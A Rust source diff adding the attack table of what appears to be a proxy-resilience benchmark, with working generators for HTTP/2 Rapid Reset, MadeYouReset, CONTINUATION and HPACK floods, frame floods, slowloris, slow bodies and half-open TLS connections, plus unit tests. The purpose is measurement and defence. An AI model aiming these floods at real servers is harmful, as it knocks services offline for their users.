@@ -1,0 +1,343 @@
+//! The attacks: one table. Each is a number of connections, what a connection begins with, and units of work that are sent at a
+//! fixed rate, so that every proxy meets the same attack however fast it is. A connection that the proxy closes is replaced,
+//! at a bounded rate too.
+
+use std::time::Duration;
+
+use super::frame::{
+    self, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM,
+    SETTINGS, WINDOW_UPDATE,
+};
+
+/// What the proxy's port speaks, and what the other clients that are measured speak.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Target {
+    /// HTTP/2 without TLS; other clients use the same port.
+    Http2,
+    /// HTTP/1.1; other clients use the same port.
+    Http1,
+    /// TLS; other clients use the port of HTTP/1.1, on the same worker.
+    Tls,
+}
+
+/// How an attacker ends a connection.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Close {
+    Fin,
+    Reset,
+}
+
+/// See the module.
+pub(crate) struct Attack {
+    pub(crate) name: &'static str,
+    /// For the list of attacks.
+    pub(crate) summary: &'static str,
+    pub(crate) target: Target,
+    /// Connections at once.
+    pub(crate) connections: usize,
+    /// New connections a second at most.
+    pub(crate) opens_per_second: u32,
+    /// What a connection begins with; the argument counts connections.
+    pub(crate) opening: fn(u32) -> Vec<u8>,
+    /// Units a second over all connections; 0 = the opening is the whole attack.
+    pub(crate) units_per_second: u32,
+    /// Units in one write.
+    pub(crate) batch: u32,
+    /// Appends a connection's unit of that number, from 0.
+    pub(crate) unit: fn(u32, &mut Vec<u8>),
+    /// After so many units a connection is done; 0 = never.
+    pub(crate) units_per_connection: u32,
+    /// A connection that is done stays open, and nothing more is sent.
+    pub(crate) holds: bool,
+    /// A connection ends so long after its opening was sent.
+    pub(crate) closes_after: Option<Duration>,
+    pub(crate) close: Close,
+}
+
+/// One stream's attack: 60 streams a connection, below the limits that count by connection.
+const STREAMS: Attack = Attack {
+    name: "",
+    summary: "",
+    target: Target::Http2,
+    connections: 20,
+    opens_per_second: 500,
+    opening: |_| frame::opening(false),
+    units_per_second: 5_000,
+    batch: 1,
+    unit: |_, _| (),
+    units_per_connection: 60,
+    holds: false,
+    closes_after: None,
+    close: Close::Fin,
+};
+
+/// One connection's attack: frames that cost the sender nothing.
+const FRAMES: Attack = Attack {
+    connections: 10,
+    units_per_second: 50_000,
+    batch: 50,
+    units_per_connection: 0,
+    ..STREAMS
+};
+
+/// HTTP/1.1 clients that take their time.
+const SLOW: Attack = Attack {
+    target: Target::Http1,
+    connections: 1_000,
+    opens_per_second: 2_000,
+    units_per_second: 1_000,
+    units_per_connection: 0,
+    ..STREAMS
+};
+
+/// Connections that are given up after their opening.
+const ABANDONED: Attack = Attack {
+    target: Target::Http1,
+    connections: 400,
+    opens_per_second: 500,
+    opening: |_| b"GET /slow HTTP/1.1\r\nHost: attack.example\r\n\r\n".to_vec(),
+    units_per_second: 0,
+    closes_after: Some(Duration::from_millis(100)),
+    ..STREAMS
+};
+
+/// All attacks.
+pub(crate) const ATTACKS: &[Attack] = &[
+    Attack {
+        name: "reset",
+        summary: "HEADERS and RST_STREAM in one segment (CVE-2023-44487)",
+        unit: |number, out| {
+            request(number, out);
+            frame::frame(out, RST_STREAM, 0, id(number), &CANCEL.to_be_bytes());
+        },
+        ..STREAMS
+    },
+    Attack {
+        name: "made-you-reset-overflow",
+        summary: "WINDOW_UPDATE that overflows the stream's window (CVE-2025-8671)",
+        unit: |number, out| {
+            request(number, out);
+            window(out, id(number), 0x7fff_ffff);
+        },
+        ..STREAMS
+    },
+    Attack {
+        name: "made-you-reset-zero",
+        summary: "WINDOW_UPDATE of 0 on a stream",
+        unit: |number, out| {
+            request(number, out);
+            window(out, id(number), 0);
+        },
+        ..STREAMS
+    },
+    Attack {
+        name: "made-you-reset-priority",
+        summary: "PRIORITY of a stream on itself",
+        unit: |number, out| {
+            request(number, out);
+            let mut payload = id(number).to_be_bytes().to_vec();
+            payload.push(15);
+            frame::frame(out, PRIORITY, 0, id(number), &payload);
+        },
+        ..STREAMS
+    },
+    Attack {
+        name: "made-you-reset-length",
+        summary: "DATA longer than content-length",
+        unit: |number, out| {
+            let block = frame::post("/slow", Some("1"));
+            frame::frame(out, HEADERS, END_HEADERS, id(number), &block);
+            frame::frame(out, DATA, 0, id(number), b"xx");
+        },
+        ..STREAMS
+    },
+    Attack {
+        name: "made-you-reset-ended",
+        summary: "DATA or HEADERS after END_STREAM",
+        unit: |number, out| {
+            request(number, out);
+            if number.is_multiple_of(2) {
+                frame::frame(out, DATA, 0, id(number), b"x");
+            } else {
+                request(number, out);
+            }
+        },
+        ..STREAMS
+    },
+    Attack {
+        name: "ping",
+        summary: "PING frames",
+        unit: |number, out| {
+            frame::frame(out, PING, 0, 0, &u64::from(number).to_be_bytes());
+        },
+        ..FRAMES
+    },
+    Attack {
+        name: "settings",
+        summary: "empty SETTINGS frames",
+        unit: |_, out| frame::frame(out, SETTINGS, 0, 0, &[]),
+        ..FRAMES
+    },
+    Attack {
+        name: "continuation",
+        summary: "CONTINUATION frames of 1 KiB without end (CVE-2024-27316 and others)",
+        units_per_second: 5_000,
+        batch: 1,
+        unit: |number, out| {
+            if number == 0 {
+                frame::frame(out, HEADERS, END_STREAM, 1, &frame::get("/slow"));
+            }
+            let mut block = Vec::new();
+            frame::plain_field(&mut block, "x", 1000);
+            frame::frame(out, CONTINUATION, 0, 1, &block);
+        },
+        ..FRAMES
+    },
+    Attack {
+        name: "hpack",
+        summary: "4 000 references to a field of 4 000 bytes in each header block",
+        units_per_second: 500,
+        batch: 1,
+        unit: |number, out| {
+            let mut block = frame::get("/slow");
+            if number == 0 {
+                frame::indexed_field(&mut block, 4_000);
+            }
+            frame::references(&mut block, 4_000);
+            let flags = END_STREAM | END_HEADERS;
+            frame::frame(out, HEADERS, flags, id(number), &block);
+        },
+        ..FRAMES
+    },
+    Attack {
+        name: "empty-data",
+        summary: "DATA frames without content",
+        unit: |number, out| {
+            if number == 0 {
+                frame::frame(out, HEADERS, END_HEADERS, 1, &frame::post("/slow", None));
+            }
+            frame::frame(out, DATA, 0, 1, &[]);
+        },
+        ..FRAMES
+    },
+    Attack {
+        name: "window-update",
+        summary: "WINDOW_UPDATE frames of 1 on the connection",
+        units_per_second: 100_000,
+        batch: 100,
+        unit: |_, out| window(out, 0, 1),
+        ..FRAMES
+    },
+    Attack {
+        name: "zero-window",
+        summary: "requests for 64 MiB each by clients that never open a window",
+        connections: 4,
+        units_per_second: 2_000,
+        opening: |_| frame::opening(true),
+        unit: |number, out| {
+            let flags = END_STREAM | END_HEADERS;
+            frame::frame(out, HEADERS, flags, id(number), &frame::get("/large"));
+        },
+        units_per_connection: 100,
+        holds: true,
+        ..STREAMS
+    },
+    Attack {
+        name: "slowloris",
+        summary: "request heads of one field a second",
+        opening: |_| b"GET /probe HTTP/1.1\r\nHost: attack.example\r\n".to_vec(),
+        unit: |_, out| out.extend(b"X-A: b\r\n"),
+        ..SLOW
+    },
+    Attack {
+        name: "slow-body",
+        summary: "request bodies of one byte a second",
+        opening: |_| {
+            b"POST /slow HTTP/1.1\r\nHost: attack.example\r\nContent-Length: 1000000\r\n\r\n"
+                .to_vec()
+        },
+        unit: |_, out| out.push(b'x'),
+        ..SLOW
+    },
+    Attack {
+        name: "tls-half-open",
+        summary: "TLS handshakes that end with the ClientHello",
+        target: Target::Tls,
+        connections: 4_000,
+        opens_per_second: 500,
+        opening: frame::client_hello,
+        units_per_second: 0,
+        ..STREAMS
+    },
+    Attack {
+        name: "abandoned-fin",
+        summary: "GET, and FIN 100 ms later, before the answer",
+        ..ABANDONED
+    },
+    Attack {
+        name: "abandoned-rst",
+        summary: "GET, and a TCP reset 100 ms later, before the answer",
+        close: Close::Reset,
+        ..ABANDONED
+    },
+];
+
+/// The client's stream of that number, from 0.
+fn id(number: u32) -> u32 {
+    2 * number + 1
+}
+
+/// A whole request that the origin does not answer.
+fn request(number: u32, out: &mut Vec<u8>) {
+    let flags = END_STREAM | END_HEADERS;
+    frame::frame(out, HEADERS, flags, id(number), &frame::get("/slow"));
+}
+
+fn window(out: &mut Vec<u8>, stream: u32, increment: u32) {
+    frame::frame(out, WINDOW_UPDATE, 0, stream, &increment.to_be_bytes());
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeSet;
+
+    use super::super::frame::FrameReader;
+    use super::*;
+
+    #[test]
+    fn names_are_unique() {
+        let names: BTreeSet<_> = ATTACKS.iter().map(|attack| attack.name).collect();
+        assert_eq!(names.len(), ATTACKS.len());
+        assert_eq!(names.len(), 18);
+    }
+
+    #[test]
+    fn units_of_http2_are_whole_frames() {
+        for attack in ATTACKS.iter().filter(|it| it.target == Target::Http2) {
+            let mut out = Vec::new();
+            (0..4).for_each(|number| (attack.unit)(number, &mut out));
+            let mut reader = FrameReader::default();
+            reader.feed(&out);
+            let lengths: usize = std::iter::from_fn(|| reader.next())
+                .map(|frame| 9 + frame.payload.len())
+                .sum();
+            assert_eq!(lengths, out.len(), "{}", attack.name);
+        }
+    }
+
+    #[test]
+    fn every_attack_sends_something_at_a_bounded_rate() {
+        for attack in ATTACKS {
+            assert!(attack.connections > 0 && attack.opens_per_second > 0);
+            assert!(attack.connections <= 4_000, "{}", attack.name);
+            let mut out = Vec::new();
+            (attack.unit)(0, &mut out);
+            assert_eq!(
+                attack.units_per_second == 0,
+                out.is_empty(),
+                "{}",
+                attack.name
+            );
+        }
+    }
+}
